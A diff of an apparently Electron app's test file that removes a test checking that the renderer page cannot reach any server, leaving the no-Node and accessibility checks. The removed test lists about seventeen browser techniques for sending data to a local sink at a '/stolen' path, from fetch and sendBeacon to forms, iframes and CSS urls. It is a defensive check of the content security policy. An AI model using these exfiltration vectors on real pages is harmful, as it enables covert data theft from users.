@@ -1,10 +1,9 @@
-/** P9 in the window: the page has no Node, no network and only the contract; and every screen passes the accessibility checks in both themes. */
+/** P9 in the window: the page has no Node and only the contract (its ways out: page-routes.spec.ts); and every screen passes the accessibility checks in both themes. */
 import { channels } from '../../shared/ipc/channels.ts'
 import { accessible } from '../support/accessible.ts'
 import { tabTo } from '../support/keyboard.ts'
 import { expect, test } from '../support/launch.ts'
 import { EVENING, personAt, STORY } from '../support/person.ts'
-import { startRecordingCloud } from '../support/recording-cloud.ts'
 
 const clock = { args: [`--clock=${EVENING}`] }
 
@@ -22,31 +21,6 @@ test('P9 the page sees the contract and nothing of Node or Electron', async ({ l
   expect(seen.node).toEqual(['undefined', 'undefined', 'undefined'])
   expect(seen.features).toEqual(Object.fromEntries(Object.entries(channels).map(([feature, names]) => [feature, [...names].sort()])))
   expect(seen.frozen).toBe('function')
-})
-
-test('P9 nothing on the page reaches a server', async ({ launch }) => {
-  const sink = await startRecordingCloud()
-  const { page } = await launch({ ...clock, expectedErrors: [/Content Security Policy|Refused|ERR_|Failed to|violates|blocked/i] })
-  await page.getByRole('button', { name: 'Create the vault' }).waitFor()
-  const address = `http://127.0.0.1:${sink.port}/stolen`
-  await page.evaluate(async (to) => {
-    const attempts: (() => unknown)[] = [
-      () => fetch(to, { mode: 'no-cors' }), () => new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', to); x.send() }),
-      () => navigator.sendBeacon(to, 'x'), () => new WebSocket(to.replace('http', 'ws')), () => new EventSource(to),
-      () => { new Image().src = to }, () => { const s = document.createElement('script'); s.src = to; document.head.append(s) },
-      () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to; document.head.append(l) },
-      () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l) },
-      () => { const f = document.createElement('iframe'); f.src = to; document.body.append(f) },
-      () => { const f = document.createElement('form'); f.action = to; f.method = 'post'; document.body.append(f); f.submit() },
-      () => new Worker(to), () => import(/* @vite-ignore */ to), () => window.open(to), () => { document.body.style.backgroundImage = `url(${to})` },
-      () => new FontFace('x', `url(${to})`).load(),
-    ]
-    for (const attempt of attempts) { try { await attempt() } catch { /* refused, as it should be */ } }
-  }, address).catch(() => undefined)
-  // A round trip through the bridge: whatever was going to be sent had its chance before it.
-  await page.evaluate(() => (window as unknown as { lares: { vault: { state: (r: null) => Promise<unknown> } } }).lares.vault.state(null))
-  expect(sink.connections()).toBe(0)
-  await sink.close()
 })
 
 test('every screen is accessible, light and dark', async ({ launch }) => {
